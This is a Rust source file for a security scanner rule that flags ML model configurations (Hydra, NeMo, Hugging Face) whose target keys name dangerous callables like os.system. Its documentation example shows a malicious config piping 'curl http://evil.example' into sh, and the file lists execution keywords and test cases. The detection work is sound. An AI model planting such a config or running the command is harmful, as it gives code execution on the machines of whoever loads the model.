//! Callables that a configuration names: Hydra's `_target_`, NeMo's and OmegaConf's relatives, Hugging Face class paths.
//!
//! `hydra.utils.instantiate` imports the dotted path and calls it with the settings beside it.

use crate::Scan;
use crate::pickle::knowledge::{GadgetClass, Standing, standing};
use bartizan_core::{Confidence, Finding, Location, Severity, atlas, cwe, owasp_llm, rule};

rule! {
    /// ## What it finds
    /// A configuration that names a dangerous callable where a loader instantiates it: `_target_: os.system`,
    /// `subprocess.Popen`, `builtins.eval`, also when reached through another module (`numpy.os.system`).
    /// ## Why it matters
    /// `hydra.utils.instantiate` imports the path and calls it with the neighbouring settings as arguments. Loading
    /// the model runs the command.
    /// ## Example
    /// ```yaml
    /// _target_: os.system
    /// _args_: ["curl http://evil.example | sh"]
    /// ```
    /// ## How to fix
    /// Do not load the model. A configuration needs classes of its own framework only.
    /// ## References
    /// - CVE-2025-23304, NVIDIA NeMo; Hydra documentation, *Instantiating objects*
    /// - CWE-470, Use of Externally-Controlled Input to Select Classes or Code
    pub const CONFIG_TARGET: Rule = Rule {
        id: "model/config-instantiates",
        title: "a configuration that instantiates a dangerous callable",
        severity: Severity::Critical,
        remedy: "Do not load the model; remove the target, and allow only classes of the framework it is for.",
        taxonomies: &[atlas("AML.T0011.000"), atlas("AML.T0010.003"), cwe(470), cwe(94), owasp_llm("LLM03")],
    };
}

/// Whether the setting called `key` names something a loader imports and calls.
pub fn is_target_key(key: &str) -> bool {
    matches!(
        key,
        "_target_"
            | "_target"
            | "__target__"
            | "target"
            | "_class_path_"
            | "class_path"
            | "cls"
            | "_call_"
            | "__class_path__"
            | "_function_"
            | "class_name_or_path"
            | LOOKED_UP
    )
}

/// The setting of Hydra's look-ups that names what they import; anywhere else it is a file.
const LOOKED_UP: &str = "path";

/// Hydra's functions that import what `path` beside them names and hand it on, without calling it.
fn is_lookup(target: &str) -> bool {
    matches!(target, "hydra.utils.get_class" | "hydra.utils.get_method" | "hydra.utils.get_object")
}

/// Judges the dotted path `target` under the setting `key`, found at `place`.
pub fn inspect_target(key: &str, target: &str, place: &Location, scan: &mut Scan<'_>) {
    let target = target.trim();
    let dotted = !target.is_empty()
        && target.len() < 512
        && target.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | ':'));
    if !dotted {
        return;
    }
    let target = target.replace(':', ".");
    let (module, name) = target.rsplit_once('.').unwrap_or(("builtins", &target));
    // `target`, `cls` and the like are also plain words; only Hydra's own keys make a bare word a callable.
    let explicit = key.starts_with('_') || key == "class_path";
    if !explicit && !target.contains('.') {
        return;
    }
    // A path may walk through any module that imports the dangerous one: `pkg.mod.os.system`.
    let parts: Vec<&str> = target.split('.').collect();
    let through = (1..parts.len().saturating_sub(1)).take(16).find_map(|skip| {
        let module = parts.get(skip..parts.len().saturating_sub(1))?.join(".");
        match standing(&module, name) {
            gadget @ Standing::Gadget { .. } => Some(gadget),
            _ => None,
        }
    });
    if key == LOOKED_UP {
        let found =
            [Some(standing(module, name)), through].into_iter().flatten().find_map(|found| match found {
                // Whatever its package, a name like `load_model` is a folder as well.
                Standing::Gadget { class: GadgetClass::NestedPickle, .. } => None,
                Standing::Gadget { severity, why, .. } if severity >= Severity::High => Some(why),
                _ => None,
            });
        if let Some(why) = found {
            let message = format!("`{key}` names `{target}`, which {why}, for a loader to look up");
            scan.report(
                Finding::new(&CONFIG_TARGET, message)
                    .severity(Severity::High)
                    .confidence(Confidence::Medium)
                    .located(place)
                    .evidence(&target),
            );
        }
        return;
    }
    if is_lookup(&target) {
        // What it looks up is judged under its own setting.
        let message = format!("`{key}` instantiates `{target}`, which imports what `path` beside it names");
        scan.report(
            Finding::new(&CONFIG_TARGET, message).severity(Severity::Low).located(place).evidence(&target),
        );
        return;
    }
    match (standing(module, name), through) {
        (Standing::Gadget { severity, why, .. }, _) => {
            let message = format!("`{key}` instantiates `{target}`, which {why}");
            scan.report(
                Finding::new(&CONFIG_TARGET, message).severity(severity).located(place).evidence(&target),
            );
        }
        (_, Some(Standing::Gadget { severity, why, .. })) => {
            let message = format!("`{key}` reaches through other modules to `{target}`, which {why}");
            scan.report(
                Finding::new(&CONFIG_TARGET, message).severity(severity).located(place).evidence(&target),
            );
        }
        (Standing::Unknown, _) if explicit && !is_framework(module) => {
            // A function of nobody's framework whose own name says that it executes its settings.
            let runs = name.starts_with(|c: char| c.is_lowercase()) && name.split('_').any(says_execution);
            let severity = if runs { Severity::High } else { Severity::Low };
            let message = format!("`{key}` instantiates `{target}`, a callable of no known framework");
            let finding = Finding::new(&CONFIG_TARGET, message).severity(severity);
            scan.report(finding.confidence(Confidence::Low).located(place).evidence(&target));
        }
        _ => {}
    }
}

fn says_execution(word: &str) -> bool {
    matches!(
        word,
        "eval" | "exec" | "system" | "shell" | "popen" | "spawn" | "cmd" | "command" | "backdoor" | "payload"
    )
}

/// Packages whose own configurations use targets.
fn is_framework(module: &str) -> bool {
    let top = module.split('.').next().unwrap_or_default();
    matches!(
        top,
        "torch"
            | "torchvision"
            | "torchaudio"
            | "torchmetrics"
            | "torchtune"
            | "nemo"
            | "nemo_toolkit"
            | "megatron"
            | "lightning"
            | "lightning_fabric"
            | "pytorch_lightning"
            | "hydra"
            | "omegaconf"
            | "transformers"
            | "diffusers"
            | "ldm"
            | "sgm"
            | "timm"
            | "keras"
            | "tensorflow"
            | "jax"
            | "flax"
            | "optax"
            | "numpy"
            | "sklearn"
            | "apex"
            | "bitsandbytes"
            | "peft"
            | "accelerate"
            | "datasets"
            | "tokenizers"
            | "cosmos"
            | "nv_one_logger"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn worst(key: &str, target: &str) -> Option<Severity> {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect_target(key, target, &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn framework_classes_and_plain_words_are_silent() {
        assert_eq!(worst("_target_", "nemo.collections.asr.modules.ConvASREncoder"), None);
        assert_eq!(worst("target", "price"), None);
        assert_eq!(worst("target", "a sentence about os.system"), None);
    }

    #[test]
    fn a_lookup_is_judged_by_what_it_looks_up() {
        assert_eq!(worst("_target_", "hydra.utils.get_class"), Some(Severity::Low));
        assert_eq!(worst("path", "torch.utils.data.DataLoader"), None);
        assert_eq!(worst("path", "checkpoints.load_model"), None);
        assert_eq!(worst("path", "os.system"), Some(Severity::High));
        assert_eq!(worst("_target_", "hydra.utils.instantiate"), Some(Severity::Critical));
    }

    #[test]
    fn an_unknown_callable_gets_a_look() {
        assert_eq!(worst("_target_", "harvest_tools.Runner"), Some(Severity::Low));
        assert_eq!(worst("_target_", "harvest_tools.shell_runner"), Some(Severity::High));
    }
}
